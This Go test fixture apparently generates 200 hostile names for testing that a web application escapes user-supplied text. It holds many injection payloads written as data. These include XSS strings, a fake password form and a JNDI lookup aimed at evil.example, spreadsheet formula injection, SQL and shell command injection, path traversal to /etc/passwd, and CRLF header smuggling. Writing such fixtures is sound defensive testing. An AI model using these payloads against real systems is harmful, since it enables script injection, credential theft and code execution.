package pagetest

import "strings"

// Hostile returns 200 names as somebody who means harm, or is careless, would
// give them to a bucket, caller or owner: all different, none longer than 256
// bytes.
func Hostile() []string {
	out := append([]string(nil), hostile...)
	// Each way of markup in each place where a name is printed.
	for i := 0; len(out) < 200; i++ {
		payload := payloads[i%len(payloads)]
		frame := frames[i/len(payloads)%len(frames)]
		out = append(out, strings.Replace(frame, "%", payload, 1)+strings.Repeat("!", i/(len(payloads)*len(frames))))
	}
	return out
}

// payloads would run if they became markup.
var payloads = []string{
	`<script>alert(1)</script>`, `<img src=x onerror=alert(1)>`, `<svg onload=alert(1)>`, `<iframe src=javascript:alert(1)>`,
	`<body onpageshow=alert(1)>`, `<details open ontoggle=alert(1)>`, `<a href=javascript:alert(1)>x</a>`, `<style>*{display:none}</style>`,
	`<meta http-equiv=refresh content=0;url=//evil.example>`, `<form action=//evil.example><input name=password>`, `<base href=//evil.example/>`,
	`<link rel=stylesheet href=//evil.example>`, `<div hx-get=/logout hx-trigger=load>`, `<template><script>1</script></template>`, `<math><mtext><script>1`,
}

// frames leave the place where they are printed first.
var frames = []string{"%", `">%`, `'>%`, `</title>%`, `</textarea>%`, `-->%`, `" autofocus onfocus="%`, `</bdi></td></tr></table>%`, `]]>%`}

var hostile = []string{
	// other characters than they seem
	"pay\u202eraw", "\u2066left\u2069", "\u202d\u202e\u202d", "pay\u200bments", "pay\u200d\u200cments", "\ufeffpayments", "pаyments", "ｐａｙｍｅｎｔｓ",
	"e\u0301" + strings.Repeat("\u0301", 60), strings.Repeat("\u0300\u0316", 50), "\u0591\u05a1\u05b0", "👩\u200d👩\u200d👧\u200d👦", "🏴\U000e0067\U000e0062", "\U0001d4fd\U0001d4ee\U0001d4fc\U0001d4fd",
	"العربية", "עברית/payments", "ไทยไทยไทย", "漢字/かな", "\u2028line", "\u2029paragraph", "a\u00a0b", "a\u3000b", "\u00ad\u00adsoft",
	// no text at all
	"\x00null", "bell\a", "back\b\b\bspace", "esc\x1b[31mred", "tab\tname", "line\nname", "return\r\nSet-Cookie: a=b", "\x7fdelete", "\xff\xfe", "half\xc3", "\xed\xa0\x80", "\u0080\u009f",
	// too long for its place
	strings.Repeat("n", 256), strings.Repeat("W", 256), strings.Repeat("name ", 50), strings.Repeat("ab/", 80), strings.Repeat("漢", 85), strings.Repeat("&", 256), strings.Repeat("<", 256), strings.Repeat(`"`, 256), strings.Repeat("'", 200), strings.Repeat(".", 256), strings.Repeat("\u200b", 80),
	// addresses
	"../../etc/passwd", "//evil.example", "https://evil.example/", "javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "?a=b&c=d#e", "%2e%2e%2f", "%00", "%3Cscript%3E", "a/b/c", "/", "\\\\host\\share", "a+b c", "#top", "name?x=y", "&amp;lt;", "&#60;script&#62;", "&lt;b&gt;",
	// tables and programs that read them
	`=cmd|' /C calc'!A0`, "+1+1", "-2+3", "@SUM(A1)", "=HYPERLINK(\"//evil.example\")", "a,b,c", "a;b", "\"quoted\"", "a\tb\tc", "'; DROP TABLE cells; --", "\" OR 1=1 --", "${jndi:ldap://evil.example/a}", "{{7*7}}", "${7*7}", "<%= 7*7 %>", "{ templ.Raw(x) }", "`id`", "$(id)", "| id", "%s%s%s%n", "%d",
	// words that mean something
	"null", "undefined", "true", "NaN", "-1", "0", "1e999", "constructor", "__proto__", "toString", "id", "main", "live", "stale", "problem", "effect", "fleet", "hx-get", "*", "unknown", "global",
}
